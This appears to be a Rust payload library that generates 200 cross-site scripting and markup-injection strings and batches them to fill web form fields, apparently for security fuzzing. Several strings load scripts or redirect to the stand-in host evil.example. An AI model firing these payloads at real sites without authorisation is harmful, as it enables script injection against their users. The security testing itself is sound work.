//! Injection payloads: two hundred texts that do harm where a page treats them as markup.

/// How an attack breaks out of its context.
pub const OUT: [&str; 8] = ["", "\">", "'>", "</title>", "</textarea>", "</select>", "-->", "]]>"];

/// The attack itself.
pub const ATTACKS: [&str; 25] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--<script>alert(1)</script>",
    " onmouseover=alert(1) x=",
    "javascript:alert(1)",
    "{{ 7 * 7 }}${7*7}<%= 7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u{202e}evil\u{202c}<b>bold</b>",
];

/// All two hundred.
pub fn payloads() -> impl Iterator<Item = String> {
    OUT.into_iter().flat_map(|out| ATTACKS.into_iter().map(move |attack| format!("{out}{attack}")))
}

/// All of them, joined into texts of at most this many bytes, for fields that are slow to fill.
pub fn batches(bytes: usize) -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    for payload in payloads() {
        match all.last_mut().filter(|last| last.len() + payload.len() < bytes) {
            Some(last) => {
                last.push(' ');
                last.push_str(payload.trim());
            }
            None => all.push(payload.trim().to_owned()),
        }
    }
    all
}
